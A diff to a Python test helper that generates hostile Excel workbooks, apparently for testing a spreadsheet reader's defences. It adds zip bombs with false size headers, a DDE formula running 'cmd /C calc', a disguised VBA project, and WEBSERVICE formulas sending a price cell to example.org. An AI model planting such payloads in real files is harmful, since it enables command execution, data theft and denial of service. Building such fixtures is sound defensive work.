@@ -29,6 +29,8 @@ from tests.workbooks import sample  # noqa: E402
 HOSTILE = Path(__file__).resolve().parent / "hostile"
 SUPPLY_PART = "xl/worksheets/sheet5.xml"  # openpyxl writes the sheets in layout.SHEETS order
 COMPANY_PART = "xl/worksheets/sheet2.xml"
+PRICE_PART = "xl/worksheets/sheet3.xml"
+INSTRUCTIONS_PART = "xl/worksheets/sheet1.xml"
 DIMENSION = b'<dimension ref="A1:G513"/>'  # what openpyxl writes for the filled sample's Supply chain sheet
 _DATE = (2026, 1, 1, 0, 0, 0)
 _CORE_TIMES = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)")
@@ -105,6 +107,60 @@ def unsupported_zip_version(data: bytes) -> bytes:
     """The first central-directory entry asks for zip version 6.4 to extract (zipfile raises NotImplementedError)."""
     at = data.index(b"PK\x01\x02")
     return data[:at + 6] + struct.pack("<H", 64) + data[at + 8:]
+
+
+def declared_small(data: bytes, part: str, declared: int = 50_000) -> bytes:
+    """Both zip headers of a part declare `declared` bytes, whatever it inflates to (its CRC is left as is)."""
+    name = part.encode()
+    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
+    local = struct.unpack("<I", data[central + 42:central + 46])[0]
+    size = struct.pack("<I", declared)
+    data = data[:local + 22] + size + data[local + 26:]
+    return data[:central + 24] + size + data[central + 28:]
+
+
+def spaced_sheet(sheet_xml: bytes, megabytes: int) -> bytes:
+    """The sheet with `megabytes` MB of blanks before its data: well-formed, and about 1,000 times its packed size."""
+    return sheet_xml.replace(b"<sheetData>", b" " * (megabytes * 1024 * 1024) + b"<sheetData>", 1)
+
+
+def long_string_cells(sheet_xml: bytes, rows: int) -> bytes:
+    """The Supply chain rows from 14 on, each naming its supplier by shared string 0."""
+    return with_rows(sheet_xml, b"".join(
+        b'<row r="%d"><c r="F%d" t="s"><v>0</v></c></row>' % (row, row) for row in range(14, 14 + rows)))
+
+
+def shared_strings(*texts: bytes) -> bytes:
+    """A shared-strings part holding the given texts."""
+    return (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            + b"".join(b"<si><t>%s</t></si>" % text for text in texts) + b"</sst>")
+
+
+def external_link(data: bytes) -> bytes:
+    """A link to another workbook, as Excel saves one: a part, its relationship and an externalReference."""
+    archive = zipfile.ZipFile(BytesIO(data))
+    rels = archive.read("xl/_rels/workbook.xml.rels").replace(
+        b"</Relationships>", b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/'
+                             b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
+                             b"</Relationships>")
+    workbook = archive.read("xl/workbook.xml").replace(
+        b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
+                      b'officeDocument/2006/relationships" r:id="rIdX1"/></externalReferences>')
+    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
+            b'<sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>')
+    link_rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                 b'externalLinkPath" Target="file:///C:/bids/prices.xlsx" TargetMode="External"/></Relationships>')
+    return rezip(data, {"xl/_rels/workbook.xml.rels": rels, "xl/workbook.xml": workbook},
+                 {"xl/externalLinks/externalLink1.xml": link,
+                  "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
+
+
+def varied(text: bytes, count: int) -> list[bytes]:
+    """`count` copies of text, every 40th a random number instead, so the part stays below the ratio limit."""
+    rnd = random.Random(1)
+    return [b"%d" % rnd.randint(0, 99_999) if n % 40 == 0 else text for n in range(count)]
 
 
 def million_rows() -> bytes:
@@ -189,6 +245,40 @@ def corpus() -> dict[str, bytes]:
         "lying_cached_value.xlsx": patch(filled, SUPPLY_PART, lambda xml: _cell_xml(
             xml, b"D15", b'<c r="D15"><f>SUM(D14:D14)</f><v>999</v></c>')),
         "wrong_types.xlsx": wrong_types(filled),
+        "lying_zip_size_bomb.xlsx": declared_small(rezip(filled, {SUPPLY_PART: spaced_sheet(supply, 200)}),
+                                                   SUPPLY_PART),
+        "lying_zip_size_small_sheet.xlsx": declared_small(rezip(filled, {SUPPLY_PART: spaced_sheet(supply, 2)}),
+                                                          SUPPLY_PART, len(supply)),
+        "huge_shared_string.xlsx": _shared_strings(rezip(filled, {SUPPLY_PART: long_string_cells(supply, 2_000)}),
+                                                   shared_strings(b"x" * 1_000_000)),
+        "long_string_many_cells.xlsx": _shared_strings(
+            rezip(filled, {SUPPLY_PART: long_string_cells(supply, 20_000)}), shared_strings(b"y" * 30_000)),
+        "too_many_shared_strings.xlsx": _shared_strings(filled, shared_strings(*varied(b"a", 200_001))),
+        "too_many_cell_formats.xlsx": patch(filled, "xl/styles.xml", swap(b"</cellXfs>", b"".join(
+            b'<xf numFmtId="0" fontId="0" fillId="0" borderId="%s"/>' % border for border in varied(b"0", 70_000))
+            + b"</cellXfs>")),
+        "formula_with_false_cached_price.xlsx": patch(filled, PRICE_PART, lambda xml: _cell_xml(
+            xml, b"B4", b'<c r="B4"><f>7150000*2</f><v>1000</v></c>')),
+        "formula_in_company_name.xlsx": patch(filled, COMPANY_PART, lambda xml: _cell_xml(
+            xml, b"B4", b'<c r="B4" t="str"><f>"Magnetics"&amp;" Europe SE"</f><v>Magnetics Europe SE</v></c>')),
+        "external_link.xlsx": external_link(filled),
+        "external_link_formula.xlsx": patch(external_link(filled), PRICE_PART, lambda xml: _cell_xml(
+            xml, b"C4", b'<c r="C4"><f>[1]Prices!A1</f><v>5</v></c>')),
+        "renamed_vba_project.xlsx": rezip(filled, add={"xl/media/image7.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+                                                                          + bytes(2_000)}),
+        "vba_content_type_renamed.xlsx": _vba_by_content_type(filled),
+        "webservice_formula.xlsx": patch(filled, INSTRUCTIONS_PART, swap(  # a sheet the reader does not read
+            b"</sheetData>", b'<row r="999"><c r="K999" t="str"><f>_xlfn.WEBSERVICE("https://example.org/?"&amp;'
+                             b"Price!B4)</f><v></v></c></row></sheetData>")),
+        "part_named_twice.xlsx": patch(filled, "xl/_rels/workbook.xml.rels", swap(b"</Relationships>", (
+            b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'sharedStrings" Target="worksheets/sheet5.xml"/></Relationships>'))),
+        "webservice_in_conditional_format.xlsx": patch(filled, PRICE_PART, swap(b"<dataValidations", (
+            b'<conditionalFormatting sqref="B4"><cfRule type="expression" priority="1"><formula>'
+            b'LEN(WEBSERVICE("https://example.org/?p="&amp;B4))&gt;0</formula></cfRule></conditionalFormatting>'
+            b"<dataValidations"))),
+        "dde_formula.xlsx": patch(filled, PRICE_PART, lambda xml: _cell_xml(
+            xml, b"C4", b"<c r=\"C4\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")),
         "wrong_tender.xlsx": _metadata(filled, 1, "RB-2025-OTHER-07"),
         "outdated_template.xlsx": _metadata(filled, 3, "0" * 64),
         "not_a_resbid_workbook.xlsx": rezip(plain.getvalue()),
@@ -212,6 +302,15 @@ def _shared_strings(data: bytes, xml: bytes) -> bytes:
         b"</Relationships>", b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/'
                              b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
     return rezip(data, {"xl/_rels/workbook.xml.rels": rels}, {"xl/sharedStrings.xml": xml})
+
+
+def _vba_by_content_type(data: bytes) -> bytes:
+    """A macro project under an innocent name, declared as one by its content type."""
+    archive = zipfile.ZipFile(BytesIO(data))
+    types = archive.read("[Content_Types].xml").replace(
+        b"</Types>", b'<Override PartName="/xl/printerSettings1.dat" '
+                     b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
+    return rezip(data, {"[Content_Types].xml": types}, {"xl/printerSettings1.dat": b"Attribute VB_Name = 1"})
 
 
 def _cell_xml(xml: bytes, ref: bytes, replacement: bytes) -> bytes:
